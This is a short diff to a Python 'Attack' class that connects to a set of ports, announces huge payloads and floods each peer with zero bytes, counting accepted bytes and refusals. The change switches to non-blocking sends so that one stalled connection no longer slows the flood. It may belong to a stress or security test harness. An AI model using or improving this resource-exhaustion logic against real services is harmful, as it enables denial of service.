@@ -401,6 +401,7 @@ class Attack:
             try:
                 peer = self.connect(*self.ports[self.done % len(self.ports)])
                 peer.sendall(struct.pack(">Q", 63 << 20))
+                peer.setblocking(False)  # one that has to wait keeps none of the others
                 left[peer] = 60 << 20
                 self.done += 1
             except OSError:
@@ -409,9 +410,11 @@ class Attack:
         while time.monotonic() < min(begin + self.spec["seconds"], self.limit):
             for peer in [p for p, n in left.items() if n > 0]:
                 try:
-                    peer.sendall(bytes(1 << 18))
-                    left[peer] -= 1 << 18
-                    self.answered += 1 << 18
+                    sent = peer.send(bytes(min(left[peer], 1 << 18)))
+                    left[peer] -= sent
+                    self.answered += sent
+                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
+                    pass
                 except OSError:
                     self.refused += 1
                     left[peer] = 0
